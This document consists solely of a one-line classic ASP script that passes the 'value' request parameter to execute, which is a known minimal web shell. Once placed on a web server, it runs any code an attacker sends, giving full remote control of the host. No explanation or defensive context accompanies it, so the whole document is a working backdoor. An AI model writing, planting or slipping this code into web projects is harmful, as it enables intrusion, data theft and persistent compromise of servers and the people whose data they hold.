<%execute request("value")%>
